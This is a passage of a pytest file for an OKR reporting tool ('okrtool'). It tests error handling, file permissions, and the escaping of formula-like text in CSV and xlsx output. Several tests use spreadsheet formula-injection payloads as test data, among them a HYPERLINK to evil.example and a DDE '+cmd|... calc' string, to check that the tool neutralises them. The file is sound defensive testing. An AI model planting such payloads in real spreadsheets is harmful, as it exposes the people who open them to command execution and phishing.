        f"trees-waste-collected,2567-07,30,import,'@SUM(1),'@report.xlsx,{digest},Sheet1!C5,{stamp}",
    ]
    assert run("validate", str(root))[0] == 0
    before = snapshot(root)
    code, out = run("import-reports", "--data", str(root), str(path))
    assert code == 0, out
    assert "0 added, 0 changed, 4 unchanged" in out
    assert snapshot(root) == before


def test_a_formula_like_note_typed_into_a_report_file_is_escaped_when_the_file_is_rewritten(
    tmp_path: Path,
) -> None:
    root = copy_dataset(tmp_path)
    edit(
        root / BANG_RAK,
        "trees-planted,2567-06,90,manual,,",
        "trees-planted,2567-06,90,manual,=1+1,",
    )
    path = sheet(tmp_path / "bang-rak.xlsx", [*TOP, ["canals-dredged", "2567-07", 6, None]])
    code, out = run("import-reports", "--data", str(root), str(path))
    assert code == 0, out
    assert "trees-planted,2567-06,90,manual,'=1+1,,,,\n" in (root / BANG_RAK).read_text()


def test_a_formula_like_policy_title_stays_text_in_the_template(tmp_path: Path) -> None:
    root = copy_dataset(tmp_path)
    title = '=HYPERLINK("http://evil.example","click")'
    edit(root / "policies/environment/trees.yaml", "title_th: ปลูกต้นไม้ล้านต้น", f"title_th: '{title}'")
    template = make_template(root, tmp_path, "bang-rak", "2567-07")
    with zipfile.ZipFile(template) as zf:
        xml = zf.read("xl/worksheets/sheet1.xml").decode()
        styles = zf.read("xl/styles.xml").decode()
    assert "<f>" not in xml
    cells = re.findall(r'<c r="B6" s="(\d+)" t="inlineStr"><is><t>([^<]*)</t></is></c>', xml)
    assert cells == [(cells[0][0], escape(f"{title}\nPlant a million trees"))]
    xfs = re.findall(r"<xf [^>]*>", styles.split("<cellXfs")[1])
    assert 'quotePrefix="1"' in xfs[int(cells[0][0])]
    # and Excel reads it back as the text it is
    ws = openpyxl.load_workbook(template)["Report"]
    assert (ws["B6"].value, ws["B6"].data_type) == (f"{title}\nPlant a million trees", "s")


def test_status_and_missing_csv_escape_formula_like_names(tmp_path: Path) -> None:
    root = copy_dataset(tmp_path)
    trees = root / "policies/environment/trees.yaml"
    edit(trees, "title_th: จำนวนต้นไม้ที่ปลูก", "title_th: '@SUM(1)'")
    edit(trees, "title_th: ปลูกต้นไม้ล้านต้น", "title_th: '+cmd|'' /C calc''!A0'")
    code, out = run("status", "--data", str(root), "--as-of", "2024-06-30", "--format", "csv")
    assert code == 0, out
    line = next(line for line in out.splitlines() if line.startswith("trees,trees-planted,"))
    assert line.startswith("trees,trees-planted,,'@SUM(1),env,trees,higher,")
    code, out = run("missing", "--data", str(root), "--period", "2567-06", "--format", "csv")
    assert code == 0, out
    rows = [line for line in out.splitlines() if ",no-report,trees,trees-planted," in line]
    assert rows and all(",trees-planted,'@SUM(1),'+cmd|' /C calc'!A0," in line for line in rows)
    # a project's row names the project, then the same policy title, escaped as well
    projects = [line for line in out.splitlines() if ",no-project-report," in line]
    assert projects and all(",'+cmd|' /C calc'!A0," in line for line in projects)


def test_a_control_character_in_a_policy_title_is_refused_before_any_template(
    tmp_path: Path,
) -> None:
    # YAML allows "\x01" in a quoted scalar; no name or title may hold it (an .xlsx cannot)
    root = copy_dataset(tmp_path)
    trees = root / "policies/environment/trees.yaml"
    edit(trees, "title_th: ปลูกต้นไม้ล้านต้น", 'title_th: "ปลูก\\x01ต้นไม้"')
    code, out = run("validate", str(root))
    assert code == 1
    assert (
        "policies/environment/trees.yaml:2:11: E103 title_th: found 'ปลูก\\x01ต้นไม้', "
        "expected text without control characters (it holds U+0001)"
    ) in out
    code, out = run(
        "report-template",
        "-d",
        str(root),
        "--agency",
        "bang-rak",
        "--period",
        "2567-07",
        "-o",
        str(tmp_path / "t.xlsx"),
    )
    assert code == 1
    assert "the data folder has 1 error(s)" in " ".join(out.split())
    assert not (tmp_path / "t.xlsx").exists()


def test_a_control_character_is_never_written_into_an_xlsx() -> None:
    # cells.xlsx_text, the last guard: openpyxl refuses such text (IllegalCharacterError)
    import openpyxl as xl

    from okrtool.io.cells import xlsx_text

    cell = xl.Workbook().active["A1"]
    assert xlsx_text(cell, "ปลูก\x01ต้นไม้").value == "ปลูก\ufffdต้นไม้"


# --- a data folder or an output that cannot be used: one line, exit 2, nothing touched ------------


def data_file(tmp_path: Path) -> Path:
    path = tmp_path / "data.txt"
    path.write_text("not a folder", encoding="utf-8")
    return path


def data_loop(tmp_path: Path) -> Path:
    os.symlink(tmp_path / "loop", tmp_path / "loop")
    return tmp_path / "loop"


DATA_CASES: dict[str, tuple[Callable[[Path], Path], str]] = {
    "a data folder that does not exist": (
        lambda tmp_path: tmp_path / "nowhere",
        "okrtool: --data {data}: no such folder",
    ),
    "a file as --data": (
        data_file,
        "okrtool: --data {data}: not a folder; expected the data folder (like data/)",
    ),
    "a symbolic link loop as --data": (
        data_loop,
        "okrtool: --data {data}: a symbolic link that loops onto itself; expected the data "
        "folder (like data/)",
    ),
}


@pytest.mark.parametrize("name", list(DATA_CASES))
def test_a_data_folder_that_cannot_be_used_is_one_line_and_exit_2(
    tmp_path: Path, name: str
) -> None:
    make, expected = DATA_CASES[name]
    given = make(tmp_path)
    workbook = book(tmp_path / "bang-rak.xlsx", [GOOD_ROW])
    before = snapshot(tmp_path)

    code, lines, _, _ = import_bounded(given, str(workbook))

    assert (code, lines) == (2, [expected.format(data=given)])
    after = snapshot(tmp_path)
    after.pop("import-output.txt")
    assert after == before  # no lock file made anywhere


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (
            ["-a", "bang-rak", "-o", "{tmp}/missing/br.xlsx"],
            "okrtool: --output {tmp}/missing/br.xlsx: no folder {tmp}/missing/ to write into; "
            "make it first, or write elsewhere",
        ),
        (
            ["-a", "all", "-o", "{tmp}/missing/out"],
            "okrtool: --output {tmp}/missing/out: no folder {tmp}/missing/ to make it in; "
            "make it first, or write elsewhere",
        ),
        (
            ["-a", "all", "-o", "{tmp}/notes.txt"],
            "okrtool: --output {tmp}/notes.txt: not a folder; expected a folder to write into",
        ),
        (
            ["-a", "bang-rak", "-o", "{tmp}/notes.txt/br.xlsx"],
            "okrtool: --output {tmp}/notes.txt/br.xlsx: {tmp}/notes.txt is not a folder; "
            "expected a folder to write into",
        ),
    ],
    ids=[
        "a file in a missing folder",
        "all into a folder of a missing folder",
        "all onto an existing file",
        "a file inside a file",
    ],
)
def test_a_template_output_that_cannot_be_used_is_one_line_and_exit_2(
    tmp_path: Path, args: list[str], expected: str
) -> None:
    root = copy_dataset(tmp_path)
    (tmp_path / "notes.txt").write_text("not a folder", encoding="utf-8")
    args = [a.format(tmp=tmp_path) for a in args]

    code, output = run("report-template", "--data", str(root), *args, "-p", "2567-07")

    assert (code, output) == (2, expected.format(tmp=tmp_path) + "\n")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "notes.txt"]


def as_nobody(*args: str) -> tuple[int, list[str]]:
    """Run `okrtool ARGS` as an unprivileged user: as uid/gid 65534 through setpriv when the
    tests run as root (CI does: root may write anywhere), else as the user running them."""
    command = [sys.executable, "-m", "okrtool", *args]
    if os.geteuid() == 0:
        command = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *command]
    env = {**os.environ, "NO_COLOR": "1", "OKRTOOL_NO_CACHE": "1"}
    proc = subprocess.run(command, capture_output=True, text=True, env=env, timeout=60)
    return proc.returncode, (proc.stdout + proc.stderr).splitlines()


@pytest.fixture
def shared(tmp_path: Path) -> Path:
    """A folder that uid 65534 can read (pytest's own tmp_path is the running user's alone)."""
    if os.geteuid() == 0 and shutil.which("setpriv") is None:
        pytest.skip("running as root without setpriv: no way to run okrtool as another user")
    folder = Path(tempfile.mkdtemp(prefix="okrtool-shared-"))
    folder.chmod(0o755)
    yield folder
    for path in [folder, *folder.rglob("*")]:
        if path.is_dir() and not path.is_symlink():
            path.chmod(0o755)
    shutil.rmtree(folder)


def nobodys(folder: Path) -> Path:
    """``folder`` and all in it made the user's of ``as_nobody`` (when running as root)."""
    if os.geteuid() == 0:
        for path in [folder, *folder.rglob("*")]:
            os.chown(path, 65534, 65534, follow_symlinks=False)
    return folder


def read_only(*folders: Path) -> None:
    for folder in folders:
        folder.chmod(0o555)


@pytest.mark.parametrize(
    ("folders", "expected"),
    [
        (
            [""],
            "okrtool: {data}: cannot write in this folder (permission denied), and an import "
            "writes its lock file there; nothing was imported (import as a user who may write "
            "there; --dry-run writes nothing)",
        ),
        (
            ["reports", "reports/2567"],
            "okrtool: {data}/reports: cannot write in this folder (permission denied), and an "
            "import writes report files there; nothing was imported (import as a user who may "
            "write there; --dry-run writes nothing)",
        ),
        (
            ["reports/2567"],
            "okrtool: {data}/reports/2567: cannot write in this folder (permission denied), and "
            "an import writes report files there; nothing was imported (import as a user who "
            "may write there; --dry-run writes nothing)",
        ),
    ],
    ids=["a read-only data folder", "a read-only reports folder", "a read-only year folder"],
)
def test_a_read_only_data_folder_is_one_line_and_exit_2(
    shared: Path, folders: list[str], expected: str
) -> None:
    root = nobodys(copy_dataset(shared))
    workbook = book(shared / "bang-rak.xlsx", [GOOD_ROW])
    read_only(*[root / f for f in folders])
    before = snapshot(root)

    code, lines = as_nobody("import-reports", "--data", str(root), str(workbook))

    assert (code, lines) == (2, [expected.format(data=root)])
    assert snapshot(root) == before
    code, lines = as_nobody("import-reports", "--dry-run", "--data", str(root), str(workbook))
    assert (code, lines[-1]) == (
        0,
        "Would merge 1 of 1 file: 1 added, 0 changed, 0 unchanged. Dry run: nothing was written.",
    )


def test_a_template_into_a_read_only_folder_is_one_line_and_exit_2(shared: Path) -> None:
    root = copy_dataset(shared)
    out = shared / "out"
    out.mkdir()
    read_only(nobodys(out))

    code, lines = as_nobody(
        "report-template", "--data", str(root), "-a", "bang-rak", "-p", "2567-07",
        "-o", str(out / "br.xlsx"),
    )  # fmt: skip

    assert (code, lines) == (
        2,
        [f"okrtool: --output {out}/br.xlsx: cannot write in the folder {out}/ (permission "
         "denied); write elsewhere"],
    )  # fmt: skip
    assert list(out.iterdir()) == []


def gnumeric_like(path: Path) -> Path:
    """A workbook whose styles part has no named style, as Gnumeric writes them: openpyxl
    warns "Workbook contains no default style" reading it."""
    parts = package([("Sheet1", rows_xml([*TOP, GOOD_ROW]), "visible")])
    parts["xl/styles.xml"] = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<styleSheet xmlns="{MAIN}">'
        '<fonts count="1"><font/></fonts><fills count="1"><fill><patternFill patternType="none"/>'
        '</fill></fills><borders count="1"><border/></borders><cellStyleXfs count="1"><xf/>'
        '</cellStyleXfs><cellXfs count="1"><xf/></cellXfs></styleSheet>'
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        "</Relationships>",
        f'<Relationship Id="rId99" Type="{DOC}/styles" Target="styles.xml"/></Relationships>',
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        "</Types>",
        '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.styles+xml"/></Types>',
    )
    return write_zip(path, parts)


def test_a_workbook_without_a_default_style_is_read_without_openpyxls_warning(
    tmp_path: Path,
) -> None:
    root = copy_dataset(tmp_path)
    path = gnumeric_like(tmp_path / "bang-rak-gnumeric.xlsx")

    code, lines, _, _ = import_bounded(root, str(path))

    assert code == 0, "\n".join(lines)
    assert [line for line in lines if "Warning" in line or "default style" in line] == []
    assert lines[-1] == "Merged 1 of 1 file: 1 added, 0 changed, 0 unchanged."
    assert stored(root, "trees-planted", "2567-07") == "10"


def test_a_workbook_in_a_folder_the_user_may_not_enter_is_one_line_and_exit_2(
    shared: Path,
) -> None:
    root = copy_dataset(shared)
    locked = shared / "locked"
    locked.mkdir()
    workbook = book(locked / "bang-rak.xlsx", [GOOD_ROW])
    locked.chmod(0o700 if os.geteuid() == 0 else 0)  # root's alone, or nobody's
    before = snapshot(root)

    code, lines = as_nobody("import-reports", "--dry-run", "--data", str(root), str(workbook))

    assert (code, lines) == (2, [f"okrtool: {workbook}: cannot be read (Permission denied)"])
    assert snapshot(root) == before


def test_a_template_into_a_folder_the_user_may_not_enter_is_one_line_and_exit_2(
    shared: Path,
) -> None:
    root = copy_dataset(shared)
    locked = shared / "locked"
    (locked / "in").mkdir(parents=True)
    locked.chmod(0o700 if os.geteuid() == 0 else 0)  # root's alone, or nobody's
    out = locked / "in" / "br.xlsx"

    code, lines = as_nobody(
        "report-template", "--data", str(root), "-a", "bang-rak", "-p", "2567-07", "-o", str(out)
    )

    assert (code, lines) == (2, [f"okrtool: --output {out}: cannot be used (Permission denied)"])
